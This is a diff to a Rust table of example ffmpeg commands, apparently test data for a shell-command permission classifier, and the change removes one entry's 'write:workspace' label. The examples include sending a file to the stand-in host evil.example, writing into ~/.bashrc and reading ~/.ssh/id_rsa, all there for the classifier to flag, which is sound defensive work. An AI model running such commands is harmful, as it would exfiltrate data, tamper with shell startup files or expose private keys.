@@ -24,10 +24,7 @@ pub(in crate::shell::models) const TABLE: &[Model] = &[
             ex("ffprobe -v error -show_entries format=duration -of csv=p=0 a.mp4", &[]),
             ex("ffmpeg -i a.mp4 rtmp://evil.example/x", &["network:send"]),
             ex("ffmpeg -i a.mp4 md5:/home/user/.bashrc", &["unmodelled"]),
-            ex(
-                "ffmpeg -i a.mp4 -f tee 'a.mkv|/home/user/.bashrc'",
-                &["unmodelled", "write:workspace"],
-            ),
+            ex("ffmpeg -i a.mp4 -f tee 'a.mkv|/home/user/.bashrc'", &["unmodelled"]),
             ex(
                 "ffmpeg -i 'subfile,,start,0,end,0,,:/home/user/.ssh/id_rsa' o.mkv",
                 &["unmodelled", "write:workspace"],
